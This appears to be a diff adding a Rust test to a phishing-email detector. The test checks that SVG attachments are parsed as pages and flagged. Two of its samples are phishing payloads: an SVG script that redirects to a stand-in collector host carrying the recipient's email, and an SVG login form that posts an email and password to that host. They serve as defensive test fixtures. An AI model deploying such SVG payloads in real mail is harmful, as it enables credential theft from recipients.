@@ -177,3 +177,45 @@ fn html_attachment_login_page() {
     assert!(ran > 0);
     assert_eq!(rec.verdict.unwrap().level, VerdictLevel::Malicious, "{found:?}");
 }
+
+#[test]
+fn svg_attachments_are_read_as_pages() {
+    let det = Detectors::new(&Config::default()).unwrap();
+    let eml = "From: Accounts <billing@mail.example.net>\r\nTo: user@example.jp\r\nSubject: Voice message\r\n\
+        Date: Mon, 4 Mar 2024 10:00:00 +0000\r\nMessage-ID: <a3@mail.example.net>\r\n\
+        Content-Type: text/plain; charset=utf-8\r\n\r\nYou have a new voice message.\r\n";
+    let redirect = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">\
+        <script><![CDATA[window.location.href='https://collector.example.org/vm?e='+'user@example.jp';]]></script></svg>"
+        .to_vec();
+    let login = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"400\" height=\"300\">\
+        <form action=\"https://collector.example.org/p.php\" method=\"post\"><input name=\"email\">\
+        <input type=\"password\" name=\"pass\"></form></foreignObject></svg>"
+        .to_vec();
+    let logo = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><circle cx=\"5\" cy=\"5\" r=\"4\"/></svg>".to_vec();
+    let cases: [(&str, Vec<u8>, &[&str]); 3] = [
+        ("VM_0412.svg", redirect, &["attach.html", "html.attachment_script"]),
+        ("Statement.svg", login, &["attach.html", "html.attachment_login_form"]),
+        ("logo.svg", logo, &["attach.html"]),
+    ];
+    let mut ran = 0;
+    for (name, svg, expected) in cases {
+        let raw = common::with_attachments(eml, &[(name, "image/svg+xml", svg)]);
+        let rec = common::scan(&raw, "svg.eml", &det);
+        let found = ids(&rec);
+        for id in expected {
+            assert!(found.contains(id), "{name}: {id} missing from {found:?}");
+        }
+        let active = expected.len() > 1;
+        assert_eq!(rec.html_attachments.len(), usize::from(active), "{name}");
+        if active {
+            assert!(
+                rec.urls.iter().any(|u| u.host.as_deref() == Some("collector.example.org")),
+                "{name}: the page's URL is an indicator"
+            );
+        } else {
+            assert!(!found.iter().any(|f| f.starts_with("html.attachment")), "{name}: {found:?}");
+        }
+        ran += 1;
+    }
+    assert_eq!(ran, 3);
+}
